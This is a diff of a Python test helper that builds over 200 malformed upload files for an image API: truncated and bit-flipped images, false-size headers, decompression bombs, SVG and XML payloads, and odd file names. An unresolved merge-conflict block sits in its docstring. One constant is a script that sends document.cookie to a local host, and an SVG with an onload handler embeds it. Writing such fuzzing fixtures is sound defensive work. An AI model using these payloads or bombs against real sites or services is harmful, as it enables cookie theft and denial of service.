@@ -1,7 +1,12 @@
-"""Makes more than 200 files that a stranger might drop; the same ones at every run.
+"""More than 200 bad files that a visitor might upload, the same at every run.
 
+<<<<<<< HEAD:tests/helpers/pictures/bad_inputs.py
 `python -m tests.helpers.pictures.bad_inputs FOLDER` writes them; `test_bad_inputs.py` gives each to
 the Python API, the command line and the HTTP endpoint.
+=======
+`python -m tests.helpers.bad_inputs FOLDER` writes them; `test_bad_inputs.py` passes each to the
+Python API, the command line and the HTTP endpoint.
+>>>>>>> h-rest:tests/helpers/bad_inputs.py
 """
 
 import gzip
@@ -21,7 +26,7 @@ from PIL import Image
 
 HEIGHT, WIDTH = 37, 53
 
-# name -> what Pillow's save takes
+# name -> arguments of Pillow's save
 FORMATS: dict[str, dict[str, Any]] = {
     "jpeg": {"format": "JPEG", "quality": 90},
     "progressive": {"format": "JPEG", "quality": 80, "progressive": True},
@@ -36,7 +41,7 @@ FORMATS: dict[str, dict[str, Any]] = {
     "ppm": {"format": "PPM"},
 }
 CUTS = (3, 12, 25, 60, 0.3, 0.6, 0.9, -1)
-"""Where files are cut: bytes from the start, a share, or bytes from the end."""
+"""Lengths of cut files: bytes from the start, a share, or bytes from the end."""
 FLIPS = 6
 
 
@@ -45,11 +50,11 @@ class Case:
     """One bad input.
 
     Attributes:
-        name: unique, and what is wrong with it.
+        name: unique; describes the fault.
         data: the file.
-        file_name: what the stranger calls it.
+        file_name: its name at the upload.
         expected: "error", "picture" (of `size`), or "either".
-        size: (height, width) of the picture, where it is one and that is known.
+        size: (height, width) of the image, if it is one and this is known.
     """
 
     name: str
@@ -60,7 +65,7 @@ class Case:
 
 
 def pixels() -> np.ndarray:
-    """(37, 53, 3) uint8: a smooth picture with some noise, so that every format has work."""
+    """Return (37, 53, 3) uint8: a smooth image with some noise."""
     y, x = np.mgrid[:HEIGHT, :WIDTH]
     smooth = np.stack([x * 4, y * 6, 255 - x * 2 - y * 3], -1)
     noise = np.random.default_rng(0).integers(-9, 10, smooth.shape)
@@ -68,14 +73,14 @@ def pixels() -> np.ndarray:
 
 
 def encode(name: str) -> bytes:
-    """The picture in one of the formats."""
+    """Return the image in one of the formats."""
     file = io.BytesIO()
     Image.fromarray(pixels()).save(file, **FORMATS[name])
     return file.getvalue()
 
 
 def cut_files() -> Iterator[Case]:
-    """Every format, cut at many places."""
+    """Yield every format, cut at many places."""
     for form in FORMATS:
         data = encode(form)
         for cut in CUTS:
@@ -84,7 +89,7 @@ def cut_files() -> Iterator[Case]:
 
 
 def flipped_files() -> Iterator[Case]:
-    """Every format with bits changed, most of them behind the header."""
+    """Yield every format with flipped bits, most of them after the header."""
     for number, form in enumerate(FORMATS):
         for seed in range(FLIPS):
             rng = np.random.default_rng([number, seed])
@@ -96,14 +101,20 @@ def flipped_files() -> Iterator[Case]:
 
 
 def chunk(kind: bytes, data: bytes, *, crc: int | None = None, length: int | None = None) -> bytes:
-    """A PNG's chunk, lies included."""
+    """Return a PNG's chunk, with a false checksum or length if given."""
     check = zlib.crc32(kind + data) if crc is None else crc
     size = len(data) if length is None else length
     return struct.pack(">I", size) + kind + data + struct.pack(">I", check)
 
 
 def png(*parts: bytes, size: tuple[int, int] = (8, 8), kind: tuple[int, int] = (8, 2)) -> bytes:
-    """A PNG of these chunks after its header; (height, width), (bit depth, colour type)."""
+    """Return a PNG with these chunks after its header.
+
+    Args:
+        parts: the chunks.
+        size: (height, width) in the header.
+        kind: (bit depth, colour type) in the header.
+    """
     header = struct.pack(">IIBBBBB", size[1], size[0], *kind, 0, 0, 0)
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(parts)
 
@@ -113,14 +124,14 @@ IEND = chunk(b"IEND", b"")
 
 
 def zeros(megabytes: int) -> bytes:
-    """So many megabytes of zeros, packed small."""
+    """Return zeros of some megabytes, compressed."""
     pack = zlib.compressobj(6)
     block = bytes(1 << 20)
     return b"".join(pack.compress(block) for _ in range(megabytes)) + pack.flush()
 
 
 def claiming(form: str, height: int, width: int) -> bytes:
-    """A small file whose header claims another size."""
+    """Return a small file whose header claims another size."""
     if form == "png":
         return png(IDAT, IEND, size=(height, width))
     data = bytearray(encode(form))
@@ -145,7 +156,7 @@ def claiming(form: str, height: int, width: int) -> bytes:
 
 
 def sizes() -> Iterator[Case]:
-    """Nothing, and far too much."""
+    """Yield files whose header claims no pixels, or far too many."""
     for form in ("png", "gif", "jpeg", "bmp", "tiff", "ppm"):
         for height, width in ((0, WIDTH), (HEIGHT, 0), (0, 0)):
             yield Case(f"{form} of {height} x {width}", claiming(form, height, width))
@@ -163,7 +174,7 @@ def sizes() -> Iterator[Case]:
 
 
 def bombs() -> Iterator[Case]:
-    """Small files that would become large."""
+    """Yield small files that decompress to large ones."""
     rows = zeros(48)
     black = chunk(b"IDAT", rows) + IEND
     yield Case("png bomb of 20,000 x 20,000", png(black, size=(20_000, 20_000), kind=(1, 0)))
@@ -195,7 +206,7 @@ def bombs() -> Iterator[Case]:
 
 
 def tiff_of(entries: list[tuple[int, int]], strip: bytes, *, next_at: int | None = None) -> bytes:
-    """A TIFF of one strip with these short entries."""
+    """Return a TIFF of one strip with these short entries."""
     entries = sorted([*entries, (273, 0), (278, 1 << 16), (279, len(strip))])
     at = 8 + 2 + 12 * len(entries) + 4
     body = struct.pack("<H", len(entries))
@@ -205,8 +216,8 @@ def tiff_of(entries: list[tuple[int, int]], strip: bytes, *, next_at: int | None
     return b"II*\0" + struct.pack("<I", 8) + body + struct.pack("<I", next_at or 0) + strip
 
 
-def lies() -> Iterator[Case]:
-    """Structures that are not what they say."""
+def inconsistent_files() -> Iterator[Case]:
+    """Yield PNG, GIF and JPEG files with inconsistent structures."""
     ok = {"expected": "either"}
     yield Case("png without pixels", png(IEND))
     yield Case("png without an end", png(IDAT), **ok)
@@ -279,7 +290,7 @@ SCRIPT = b"<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"
 
 
 def others() -> Iterator[Case]:
-    """What is no picture at all, mostly called one."""
+    """Yield files that are no images, most of them with an image's name."""
     svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
     entity = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaa'>]><svg>&a;</svg>"
     yield from (
@@ -350,7 +361,7 @@ NAMES = (
 
 
 def odd_names() -> Iterator[Case]:
-    """A good picture whose name is not."""
+    """Yield a good image with odd file names."""
     data = encode("png")
     for number, name in enumerate(NAMES):
         yield Case(f"name {number}", data, name, "picture", (HEIGHT, WIDTH))
@@ -361,21 +372,21 @@ MAKERS: tuple[Callable[[], Iterator[Case]], ...] = (
     flipped_files,
     sizes,
     bombs,
-    lies,
+    inconsistent_files,
     others,
     odd_names,
 )
 
 
 def cases() -> list[Case]:
-    """All of them, each name once."""
+    """Return all cases, each name once."""
     made = [case for maker in MAKERS for case in maker()]
     assert len({case.name for case in made}) == len(made)
     return made
 
 
 def main(folder: Path) -> None:
-    """Write every case into a folder under a number."""
+    """Write every case into a folder, numbered."""
     folder.mkdir(parents=True, exist_ok=True)
     for number, case in enumerate(cases()):
         (folder / f"{number:03d}{Path(case.file_name).suffix[:5]}").write_bytes(case.data)
